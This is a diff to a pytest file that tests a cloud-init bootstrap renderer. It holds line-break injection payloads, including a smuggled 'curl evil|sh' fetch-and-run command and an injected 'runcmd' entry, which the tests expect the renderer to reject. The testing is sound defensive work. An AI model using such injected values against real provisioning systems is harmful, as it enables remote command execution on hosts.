@@ -35,7 +35,8 @@ def _env_file(user_data: str) -> list[str]:
 @pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
 def test_no_value_adds_an_env_line_in_cloud_init(brk: str) -> None:
     evil = f"org/model{brk}TENSORANT_TRAINER_COMMAND=curl evil|sh{brk}"
-    env = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_BASE_MODEL": evil, "TENSORANT_RUN_TOKEN": "tok"}
+    env = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_BASE_MODEL": evil, "TENSORANT_RUN_TOKEN": "tok",
+           "TENSORANT_API_URL": "https://cp.example.com"}
     text = cloudinit.render(Bootstrap(container_image="ghcr.io/tensorant/trainer:1", env=env))
     content = _env_file(text)
     assert len(content) == 1
@@ -46,6 +47,17 @@ def test_no_value_adds_an_env_line_in_cloud_init(brk: str) -> None:
     assert "TENSORANT_TRAINER_COMMAND" not in text
     decoded = json.loads(base64.b64decode(blob, validate=True))
     assert decoded == {**env, "TENSORANT_DATA_DIR": cloudinit.CONTAINER_DATA_DIR}
+
+
+@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
+def test_values_written_outside_the_blob_are_refused_with_a_line_break(brk: str) -> None:
+    # The report URL, the header file's token and the image are written into the YAML and the script as they are.
+    good = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_RUN_TOKEN": "tok", "TENSORANT_API_URL": "https://cp.example.com"}
+    for key in ("TENSORANT_API_URL", "TENSORANT_RUN_TOKEN"):
+        with pytest.raises(ValueError, match="one line"):
+            cloudinit.render(Bootstrap(container_image="img:1", env={**good, key: f"{good[key]}{brk}runcmd: [x]"}))
+    with pytest.raises(ValueError, match="one line"):
+        cloudinit.render(Bootstrap(container_image=f"img:1{brk}x", env=good))
 
 
 @pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
